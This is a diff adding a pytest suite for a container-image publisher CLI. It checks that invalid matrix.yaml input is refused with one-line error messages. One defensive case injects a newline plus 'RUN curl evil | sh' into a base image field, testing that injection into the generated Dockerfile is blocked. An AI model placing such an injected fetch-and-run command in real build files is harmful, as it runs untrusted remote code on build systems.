@@ -1,0 +1,199 @@
+"""Bad input is refused before anything happens: one line naming file, line and fix; exit 2."""
+
+import shutil
+
+import pytest
+
+from tests.conftest import ROOT
+
+SMALL = """\
+repositories: [ghcr.io/acme/tool]
+platforms: [linux/amd64, linux/arm64]
+labels:
+  title: tool
+families:
+  scratch: {}
+  alpine: {}
+primary:
+  name: distroless
+  family: scratch
+variants:
+  - base: alpine:3.20
+    family: alpine
+    tags: [alpine3.20, alpine]
+"""
+
+
+@pytest.fixture
+def small(tmp_path):
+    (tmp_path / "variants").mkdir()
+    shutil.copy(ROOT / "variants" / "Dockerfile.j2", tmp_path / "variants" / "Dockerfile.j2")
+
+    def write(text: str = SMALL, template: str | None = None):
+        (tmp_path / "matrix.yaml").write_text(text)
+        if template is not None:
+            (tmp_path / "variants" / "Dockerfile.j2").write_text(template)
+        return str(tmp_path / "matrix.yaml")
+
+    return write
+
+
+def refused(cli, matrix: str, *extra: str):
+    run = cli("publish", "--dry-run", "--version", "0.5.31", "--matrix", matrix, *extra)
+    assert run.code == 2, run.out
+    assert run.out == ""
+    assert "Traceback" not in run.err
+    return run.err.replace(matrix, "matrix.yaml").splitlines()
+
+
+def test_small_matrix_is_accepted(cli, small):
+    run = cli("publish", "--dry-run", "--version", "0.5.31", "--matrix", small())
+    assert run.code == 0, run.err
+    assert "2 variants, 4 images, 9 tags per repository" in run.out
+
+
+CASES = {
+    "malformed yaml": (
+        SMALL.replace("  title: tool", "  title: [tool"),
+        ["matrix.yaml:5: malformed YAML: expected ',' or ']', but got ':'; fix the syntax"],
+    ),
+    "misspelt top-level key": (
+        SMALL.replace("repositories:", "repositores:"),
+        [
+            "matrix.yaml:1: unknown key 'repositores' in the document; did you mean 'repositories'?",
+            "matrix.yaml:1: the document is missing required key 'repositories'",
+        ],
+    ),
+    "misspelt variant key": (
+        SMALL.replace("    tags:", "    tagz:"),
+        [
+            "matrix.yaml:14: unknown key 'tagz' in variants[0]; did you mean 'tags'?",
+            "matrix.yaml:12: variants[0] is missing required key 'tags'",
+        ],
+    ),
+    "tag with a bad character": (
+        SMALL.replace("alpine3.20, alpine]", "alpine/3.20, alpine]"),
+        ["matrix.yaml:14: variants[0].tags[0] 'alpine/3.20' is not valid: a tag: letters, digits, '.', '_' or '-', at most 128, not starting with '.' or '-'"],
+    ),
+    "tag too long once versioned": (
+        SMALL.replace("alpine3.20, alpine]", f"{'a' * 122}, alpine]"),
+        [f"matrix.yaml:14: tag '0.5.31-{'a' * 122}' is invalid for 0.5.31 (at most 128 of A-Z a-z 0-9 _ . -); shorten the base tag"],
+    ),
+    "tag claimed by two variants": (
+        SMALL + "  - base: alpine:3.21\n    family: alpine\n    tags: [alpine3.21, alpine]\n",
+        ["matrix.yaml:17: tag 'alpine' is already claimed by variant 'alpine3.20'; each tag must name one variant"],
+    ),
+    "base tag clashing with the primary's tags": (
+        SMALL.replace("alpine3.20, alpine]", "alpine3.20, latest]"),
+        ["matrix.yaml:14: base tag 'latest' would clash with the version tags; start it with a letter, e.g. alpine3.20"],
+    ),
+    "base tag that looks like a version": (
+        SMALL.replace("alpine3.20, alpine]", "alpine3.20, '3.20']"),
+        ["matrix.yaml:14: base tag '3.20' would clash with the version tags; start it with a letter, e.g. alpine3.20"],
+    ),
+    "unquoted number read as a float": (
+        SMALL.replace("alpine3.20, alpine]", "alpine3.20, 3.20]"),
+        ["matrix.yaml:14: variants[0].tags[1] is read as the number 3.2; quote it, e.g. \"3.10\""],
+    ),
+    "unquoted axis value read as a float": (
+        SMALL + '  - expand:\n      python: [3.10]\n    base: "python:{python}-alpine"\n    family: alpine\n    tags: ["python{python}-alpine"]\n',
+        ["matrix.yaml:16: axis 'python' value 3.1 is read as a number; quote it, e.g. \"3.10\""],
+    ),
+    "uppercase repository": (
+        SMALL.replace("ghcr.io/acme/tool", "ghcr.io/Acme/tool"),
+        ["matrix.yaml:1: repository 'ghcr.io/Acme/tool': repository path 'Acme/tool' must be lowercase; write host/path, e.g. ghcr.io/org/image"],
+    ),
+    "repository with a tag": (
+        SMALL.replace("ghcr.io/acme/tool", "ghcr.io/acme/tool:1"),
+        ["matrix.yaml:1: repository 'ghcr.io/acme/tool:1': a repository takes no tag or digest; write host/path, e.g. ghcr.io/org/image"],
+    ),
+    "repository twice": (
+        SMALL.replace("[ghcr.io/acme/tool]", "[ghcr.io/acme/tool, ghcr.io/acme/tool]"),
+        ["matrix.yaml:1: repository 'ghcr.io/acme/tool' is listed twice; keep one"],
+    ),
+    "newline injected into a base": (
+        SMALL.replace("base: alpine:3.20", 'base: "alpine:3.20\\nRUN curl evil | sh"'),
+        ["matrix.yaml:12: variants[0].base contains a newline or control character; write it on one line"],
+    ),
+    "control character in a label": (
+        SMALL.replace("title: tool", 'title: "tool\\x1b[2J"'),
+        ["matrix.yaml:4: labels.title contains a newline or control character; write it on one line"],
+    ),
+    "unknown family": (
+        SMALL.replace("    family: alpine", "    family: alpin"),
+        ["matrix.yaml:13: family 'alpin' is not declared under families: (scratch, alpine)"],
+    ),
+    "duplicate yaml key": (
+        SMALL.replace("    family: alpine\n", "    family: alpine\n    family: alpine\n"),
+        ["matrix.yaml:14: duplicate key 'family' in variants[0]; keep one"],
+    ),
+    "wrong type": (
+        SMALL.replace("tags: [alpine3.20, alpine]", "tags: alpine3.20"),
+        ["matrix.yaml:14: variants[0].tags must be a non-empty list"],
+    ),
+    "bad platform": (
+        SMALL.replace("linux/arm64]", "arm64]"),
+        ["matrix.yaml:2: platforms[1] 'arm64' is not valid: write os/arch, e.g. linux/arm64"],
+    ),
+    "bad base reference": (
+        SMALL.replace("base: alpine:3.20", "base: Alpine:3.20"),
+        ["matrix.yaml:12: base 'Alpine:3.20': repository path 'library/Alpine' must be lowercase; write an image reference, e.g. alpine:3.20"],
+    ),
+    "unknown axis placeholder": (
+        SMALL + '  - expand:\n      py: ["3.12"]\n    base: "python:{python}-alpine"\n    family: alpine\n    tags: ["python{py}-alpine"]\n',
+        ["matrix.yaml:17: '{python}' in variants[1].base names no axis; axes: py"],
+    ),
+    "bad smoke test regex": (
+        SMALL.replace("  alpine: {}", "  alpine:\n    smoke:\n      - run: [uv]\n        stdout: '(unclosed'"),
+        ["matrix.yaml:10: families.alpine.smoke[0].stdout is not a valid regular expression: missing ), unterminated subpattern at position 0"],
+    ),
+    "missing primary": (
+        SMALL.replace("primary:\n  name: distroless\n  family: scratch\n", ""),
+        ["matrix.yaml:1: the document is missing required key 'primary'"],
+    ),
+}
+
+
+@pytest.mark.parametrize("name", CASES)
+def test_bad_matrix_is_refused_with_one_line_each(cli, small, name):
+    text, expected = CASES[name]
+    assert refused(cli, small(text)) == expected
+
+
+def test_template_syntax_error_names_template_and_line(cli, small):
+    matrix = small(template="FROM scratch\n\nLABEL x={{ variant.name | shout }}\n")
+    assert refused(cli, matrix) == ["variants/Dockerfile.j2:3: template error: No filter named 'shout'."]
+
+
+def test_template_undefined_name_names_template_and_line(cli, small):
+    matrix = small(template="FROM scratch\n\nLABEL x={{ variant.colour }}\n")
+    assert refused(cli, matrix) == ["variants/Dockerfile.j2:3: template error while rendering 'distroless': 'publisher.matrix.Variant object' has no attribute 'colour'"]
+
+
+def test_missing_template_is_refused(cli, small):
+    matrix = small(SMALL.replace("repositories:", "template: variants/nope.j2\nrepositories:"))
+    assert refused(cli, matrix) == ["matrix.yaml:1: template 'variants/nope.j2' not found next to matrix.yaml; create it or fix 'template:'"]
+
+
+def test_unknown_variant_on_the_command_line(cli, small):
+    assert refused(cli, small(), "--only", "alpine3.2") == ["publisher: --only 'alpine3.2' is not in the matrix; did you mean 'alpine3.20'?"]
+
+
+def test_unknown_platform_on_the_command_line(cli, small):
+    assert refused(cli, small(), "--platform", "linux/s390x") == ["publisher: --platform 'linux/s390x' is not in the matrix; known: linux/amd64, linux/arm64"]
+
+
+def test_missing_matrix_file(cli, tmp_path):
+    missing = str(tmp_path / "nope.yaml")
+    assert refused(cli, missing) == ["matrix.yaml: cannot read: No such file or directory; pass the matrix with --matrix PATH"]
+
+
+def test_version_is_required(cli, small):
+    run = cli("publish", "--dry-run", "--matrix", small())
+    assert (run.code, run.err) == (2, "publisher publish: --version is required: the release to publish, e.g. --version 0.5.31\n")
+
+
+def test_unknown_flag_is_one_line(cli):
+    run = cli("publish", "--dryrun")
+    assert run.code == 2
+    assert run.err == "publisher: unrecognized arguments: --dryrun; see 'publisher --help'\n"
